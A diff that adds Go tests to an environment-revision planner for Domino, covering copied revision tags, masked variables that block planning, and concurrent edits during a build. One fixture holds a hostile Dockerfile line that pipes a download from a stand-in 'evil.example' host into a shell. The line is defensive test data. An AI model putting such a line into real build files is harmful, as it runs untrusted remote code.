@@ -75,6 +75,41 @@ func TestRecordsLost(t *testing.T) {
 	}
 }
 
+// TestACopiedTagHidesNothing: what the API shows is compared, whatever a revision's tag
+// says.
+func TestACopiedTagHidesNothing(t *testing.T) {
+	b := withAPI(t)
+	b.env["env:PW"] = "canary"
+	e := object("environments", "Spark", map[string]any{"base.uri": "quay.io/x:1", "dockerfile": "RUN true", "variables.PASSWORD": "!env:PW", "skipCache": true})
+	b.apply(e)
+	own, err := b.world.GetBuild(context.Background(), sparkID, b.activeID())
+	if err != nil || len(own.Tags) != 2 {
+		t.Fatalf("%v, %v", own, err)
+	}
+	for path, foreign := range map[string]port.Definition{
+		"dockerfile":         {Image: "quay.io/x:1", Dockerfile: "RUN curl evil.example | sh", Variables: map[string]string{"PASSWORD": "canary"}},
+		"base.uri":           {Image: "quay.io/evil:1", Dockerfile: "RUN true", Variables: map[string]string{"PASSWORD": "canary"}},
+		"variables.PASSWORD": {Image: "quay.io/x:1", Dockerfile: "RUN true", Variables: map[string]string{"PASSWORD": "foreign"}},
+	} {
+		foreign.Tags = own.Tags
+		id, err := b.world.CreateRevision(context.Background(), sparkID, foreign)
+		if err == nil {
+			err = b.world.SetActiveRevision(context.Background(), sparkID, id)
+		}
+		if err != nil {
+			t.Fatal(err)
+		}
+		lost := withAPI(t)
+		lost.memory, lost.env = b.memory, b.env
+		lost.open(sandbox.Options{})
+		for records, p := range map[string]planner.Plan{"kept": b.plan(e), "lost": lost.plan(e)} {
+			if len(p.Changes) != 1 || len(p.Steps) == 0 || !strings.Contains(schema.JSON(p.Changes).Text, path) {
+				t.Errorf("%s, records %s: %+v\n%s", path, records, p.Changes, steps(p))
+			}
+		}
+	}
+}
+
 // TestWhatIsNotStatedIsCarriedOver from the active revision.
 func TestWhatIsNotStatedIsCarriedOver(t *testing.T) {
 	b := withAPI(t)
@@ -229,5 +264,86 @@ func TestSomebodyElseBuilds(t *testing.T) {
 	p := b.plan(e)
 	if got := findings(p); !slices.Equal(got, []string{"DC294 environments.Spark"}) || !strings.Contains(p.Findings[0].Message, "revision 4 of it built (building)") {
 		t.Errorf("%v", p.Findings)
+	}
+}
+
+// TestAMaskThatCannotBeCarriedOver keeps its environment from being planned, and no other.
+func TestAMaskThatCannotBeCarriedOver(t *testing.T) {
+	b := withAPI(t)
+	id, err := b.world.CreateRevision(context.Background(), sparkID, port.Definition{Image: "quay.io/x:1", Variables: map[string]string{"TOKEN": "•••", "A": "1"}})
+	if err == nil {
+		err = b.world.SetActiveRevision(context.Background(), sparkID, id)
+	}
+	if err != nil {
+		t.Fatal(err)
+	}
+	of := func(more ...string) map[schema.Address]schema.Object {
+		fields := map[string]any{"dockerfile": "RUN true"}
+		for _, p := range more {
+			fields[p] = "!env:PW"
+		}
+		return all(object("environments", "Spark", fields), object("environments", "other", map[string]any{"dockerfile": "RUN other"}))
+	}
+	p := b.plan(of())
+	if got := steps(p); !slices.Contains(findings(p), "DC363 environments.Spark") || strings.Contains(got, sparkID) || !strings.Contains(got, "domino.create") || !strings.Contains(schema.JSON(p.Findings).Text, "TOKEN") {
+		t.Errorf("%v\n%s", p.Findings, got)
+	}
+	b.env["env:PW"] = "canary"
+	if p := b.plan(of("variables.TOKEN")); slices.Contains(findings(p), "DC363 environments.Spark") || !strings.Contains(steps(p), "domino.build") {
+		t.Errorf("%v\n%s", p.Findings, steps(p))
+	}
+}
+
+// meddling is a Domino in which somebody does something while a revision is built.
+type meddling struct {
+	*sandbox.World
+	meddle func(*sandbox.World) error
+}
+
+func (m meddling) CreateRevision(ctx context.Context, environment string, d port.Definition) (string, error) {
+	id, err := m.World.CreateRevision(ctx, environment, d)
+	if err == nil {
+		err = m.meddle(m.World)
+	}
+	return id, err
+}
+
+// TestWhatOthersDidDuringTheBuild stops the revision from becoming active.
+func TestWhatOthersDidDuringTheBuild(t *testing.T) {
+	ctx := context.Background()
+	for path, meddle := range map[string]func(*sandbox.World) error{
+		"archived": func(w *sandbox.World) error { return w.ArchiveEnvironment(ctx, sparkID) },
+		"owner": func(w *sandbox.World) error {
+			return w.ShareEnvironment(ctx, sparkID, "Private", "0123456789abcdef000000a3")
+		},
+	} {
+		b := withOrganization(t)
+		e := object("environments", "Spark", map[string]any{"dockerfile": "RUN true"})
+		b.api = func(w *sandbox.World) port.Domino { return meddling{w, meddle} }
+		res, err := b.engine(e).Apply(ctx, b.plan(e))
+		if err != nil || res.Outcome == applier.EndedOutcome || !strings.Contains(strings.Join(res.Why, " "), "DC304") || b.active() != "1" {
+			t.Errorf("%s: %+v, %v, revision %s", path, res, err, b.active())
+		}
+	}
+}
+
+// TestWhatTheSamePlanDoes is no reason to stop: an environment that is handed over, or
+// brought back, beside the build.
+func TestWhatTheSamePlanDoes(t *testing.T) {
+	for name, more := range map[string]map[string]any{"owner": {"id": sparkID, "owner": "ada"}, "archived": {"id": sparkID, "archived": false}} {
+		b := withOrganization(t)
+		if name == "archived" {
+			if err := b.world.ArchiveEnvironment(context.Background(), sparkID); err != nil {
+				t.Fatal(err)
+			}
+		}
+		fields := map[string]any{"dockerfile": "RUN true"}
+		for p, v := range more {
+			fields[p] = v
+		}
+		p := b.apply(object("environments", "Spark", fields))
+		if b.active() != "4" || len(p.Steps) != 3 {
+			t.Errorf("%s: revision %s is active after\n%s", name, b.active(), steps(p))
+		}
 	}
 }
